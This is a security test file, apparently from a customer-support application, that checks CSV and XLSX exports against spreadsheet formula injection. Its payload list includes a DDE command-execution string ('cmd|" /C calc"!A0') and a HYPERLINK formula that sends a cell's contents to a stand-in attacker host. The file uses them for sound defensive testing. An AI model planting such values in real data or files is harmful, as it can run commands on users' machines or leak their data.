import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, expect } from 'vitest';
import { csvLine } from '../../server/domains/customers/exports/rules.ts';
import { createCustomer } from '../../server/domains/customers/index.ts';
import { toCsv } from '../../server/domains/insights/reports/csv.ts';
import { takeDownRequest } from '../../server/domains/requests/index.ts';
import { useDatabase } from '../harness/database.ts';
import { makeToken, openDoors } from '../harness/http.ts';
import { as, type Company, makeCompany } from '../harness/people.ts';
import { attack } from './attack.ts';

useDatabase();
let company: Company;
let token = '';
let doors: Awaited<ReturnType<typeof openDoors>>;
beforeAll(async () => {
  company = await makeCompany('Toko Rina', new Date());
  token = await makeToken(company, '*');
  doors = await openDoors();
});

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '  +',
  '＝',
  '＋',
  '－',
  '＠',
  '\u00a0=',
  '\u3000＝',
];
const rest = [
  '1+1',
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://evil.example/"&A1,"click")',
  'SUM(1;2)',
  'IMPORTXML("x")',
];
const payloads = starts.flatMap((start) => rest.map((one) => start + one));

/** Whether a spreadsheet would run what stands in a cell. */
const runs = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell);
const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

function expectTexts(csv: string, wanted: number): void {
  const cells: string[] = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
  expect(cells.filter((cell) => runs(cell) && !isNumber(cell))).toEqual([]);
  expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(wanted);
}

attack(
  'S33',
  () => {
    for (const payload of payloads) {
      expectTexts(csvLine([payload, 'x']), 1);
      expectTexts(toCsv([[payload, 'x']]), 1);
    }
  },
  'in both writers of tables',
);

attack(
  'S33',
  async () => {
    for (const [at, name] of payloads.slice(0, 30).entries()) {
      const tags = [payloads[payloads.length - 1 - at] ?? ''];
      await createCustomer(as(company.sari, new Date()), { name, tags });
    }
    const { status, text } = await doors.call('GET', '/api/v1/customers/export', { token });
    expect(status).toBe(200);
    expectTexts(text, 30);
  },
  'in the customers',
);

attack(
  'S33',
  async () => {
    const customer = { email: 'rina@honest.example', name: 'Rina' };
    const labels = payloads
      .map((one) => one.trim())
      .filter((one) => one.length <= 40)
      .slice(0, 10);
    await takeDownRequest(as(company.asSystem.actor, new Date()), {
      subject: 'x',
      body: 'y',
      customer,
      labels,
    });
    const list = await doors.call('GET', '/api/v1/requests/export', { token });
    expect(list.status).toBe(200);
    expectTexts(list.text, 1);
    const csv = await doors.call('GET', '/api/v1/reports/requests?groupBy=label&format=csv', { token });
    expect(csv.status).toBe(200);
    expectTexts(csv.text, 1);
    const book = await doors.app.request('/api/v1/reports/requests?groupBy=label&format=xlsx', {
      headers: { authorization: `Bearer ${token}` },
    });
    const parts = unzipSync(new Uint8Array(await book.arrayBuffer()));
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet).not.toMatch(/<f[ >]/);
    const cells = [...sheet.matchAll(/<c [^>]*>/g)].map(([cell]) => cell);
    expect(cells.length).toBeGreaterThan(labels.length);
    expect(strFromU8(parts['xl/sharedStrings.xml'] ?? new Uint8Array()) + sheet).toContain('=1+1');
  },
  'in reports, as a table and as a workbook',
);

attack(
  'S33',
  async () => {
    const span = { last: 4, unit: 'week' };
    const asked = { measures: ['requests.opened'], span, step: 'none', split: 'label', picture: 'bar' };
    const ask = (path: string, body: object) =>
      doors.call('POST', path, { token, json: { definition: asked, ...body } });
    const table = await ask('/api/v1/reports/run?format=csv', {});
    expect(table.status).toBe(200);
    expectTexts(table.text, 1);
    const rows = await ask('/api/v1/reports/rows', { format: 'csv' });
    expect(rows.status).toBe(200);
    expectTexts(rows.text, 1);
    const book = await doors.app.request('/api/v1/reports/rows', {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ definition: asked, format: 'xlsx' }),
    });
    const sheet = strFromU8(
      unzipSync(new Uint8Array(await book.arrayBuffer()))['xl/worksheets/sheet1.xml'] ?? new Uint8Array(),
    );
    expect(sheet).not.toMatch(/<f[ >]/);
    expect(sheet).toContain('=1+1');
  },
  'in reports that people make, and in the requests behind their figures',
);
